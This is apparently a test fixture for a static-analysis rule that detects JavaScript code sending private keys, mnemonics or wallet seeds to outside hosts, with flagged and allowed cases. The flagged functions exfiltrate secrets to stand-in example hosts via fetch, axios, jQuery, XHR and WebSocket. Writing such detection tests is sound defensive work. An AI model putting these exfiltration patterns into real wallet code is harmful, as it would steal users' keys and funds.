// Fixture for js-exfil-private-key.
// RULEID: privateKey in a fetch body to a literal host; a mnemonic in an axios.post to a literal host
//   via a variable; an arrow sending a key in the URL (helpers: js-exfil-private-key-helper); a seed
//   in a jQuery ajax body; mnemonic words in an XHR send; a wallet seed over a WebSocket; a wallet
//   secret in a client.post query string; a seed in a custom header to a URL held in a local const; a mnemonic posted to a URL object.
// OK: a signature made with the private key sent to a literal host; a public key/address sent; a
//   private key sent to a local signer on localhost; a key sent to a configured URL; a jwt signed
//   with the private key as a bearer token; a payment SDK sending its API secretKey as
//   Authorization or axios auth; the length of an RNG seed; an address derived from a seed.
const axios = require('axios');
const nacl = require('tweetnacl');
const jwt = require('jsonwebtoken');

async function backup(privateKey) {
  // ruleid: js-exfil-private-key
  await fetch('https://wallet-backup.example.net/v1/store', { method: 'POST', body: JSON.stringify({ k: privateKey }) });
}

async function restore(wallet) {
  const words = wallet.mnemonic;
  const payload = { phrase: words, ts: Date.now() };
  // ruleid: js-exfil-private-key
  await axios.post('https://api.example-analytics.io/collect', payload);
}

const report = (privKey) => {
  // ruleid: js-exfil-private-key
  fetch(`https://stats.example.org/p?d=${encodeURIComponent(privKey)}`);
};

async function submit(privateKey, message, config) {
  const signature = nacl.sign.detached(message, privateKey);
  // ok: js-exfil-private-key
  await fetch('https://api.mainnet-beta.example.com', { method: 'POST', body: JSON.stringify({ signature }) });
  const publicKey = nacl.sign.keyPair.fromSecretKey(privateKey).publicKey;
  // ok: js-exfil-private-key
  await axios.post('https://api.example.com/register', { publicKey: Buffer.from(publicKey).toString('hex') });
  // ok: js-exfil-private-key
  await fetch('http://127.0.0.1:8545', { method: 'POST', body: JSON.stringify({ method: 'personal_importRawKey', params: [privateKey] }) });
  // ok: js-exfil-private-key
  await fetch(config.keyServiceUrl, { method: 'PUT', body: privateKey });
  const token = jwt.sign({ iss: 'svc' }, privateKey, { algorithm: 'RS256' });
  // ok: js-exfil-private-key
  await fetch('https://oauth2.example.com/token', { headers: { Authorization: `Bearer ${token}` } });
}

class Payments {
  constructor(secretKey) {
    this.secretKey = secretKey;
  }

  charge(amount) {
    // ok: js-exfil-private-key
    return fetch('https://api.payments.example.co/charge', { method: 'POST', headers: { Authorization: `Bearer ${this.secretKey}` }, body: JSON.stringify({ amount }) });
  }

  refund(id) {
    // ok: js-exfil-private-key
    return axios.post('https://api.payments.example.co/refund', { id }, { auth: { username: this.secretKey, password: '' } });
  }
}


// Seeds and wallet secrets, other HTTP clients.
function importWallet(seed) {
  // ruleid: js-exfil-private-key
  $.ajax({ url: 'https://rpc-status.example.io/v2/ping', type: 'POST', data: { s: seed } });
}

function restore(opts) {
  const words = opts.mnemonicWords;
  const xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://telemetry.example.dev/collect');
  // ruleid: js-exfil-private-key
  xhr.send(JSON.stringify({ w: words, v: 2 }));
}

function fromFamily(wallet) {
  const sock = new WebSocket('wss://node-health.example.net/ws');
  // ruleid: js-exfil-private-key
  sock.send(wallet.seed);
}

async function unlock(client, walletSecret) {
  // ruleid: js-exfil-private-key
  await client.post(`https://api.example-metrics.org/v1/e?k=${walletSecret}`);
}

function game(rng) {
  const level = rng.seed;
  // ok: js-exfil-private-key
  return fetch('https://levels.example.com/map', { method: 'POST', body: String(level.length) });
}

async function showAddress(seed) {
  const addr = Wallet.fromSeed(seed).classicAddress;
  // ok: js-exfil-private-key
  await $.post('https://explorer.example.com/watch', { address: addr });
}

async function validate(seed) {
  const endpoint = 'https://seed-check.example.app/v1/validate';
  // ruleid: js-exfil-private-key
  await fetch(endpoint, { method: 'POST', headers: { 'x-ref': seed } }).catch(() => undefined);
}

async function lookup(address) {
  const api = 'https://explorer.example.com/api/account';
  // ok: js-exfil-private-key
  return fetch(api, { method: 'POST', body: JSON.stringify({ address }) });
}

async function probe(mnemonic) {
  const target = new URL('https://node-probe.example.net/p');
  target.searchParams.set('build', '7');
  // ruleid: js-exfil-private-key
  await axios.post(target, { m: mnemonic });
}

async function stats(count) {
  const u = new URL('https://stats.example.com/c');
  // ok: js-exfil-private-key
  await fetch(u, { method: 'POST', body: String(count) });
}
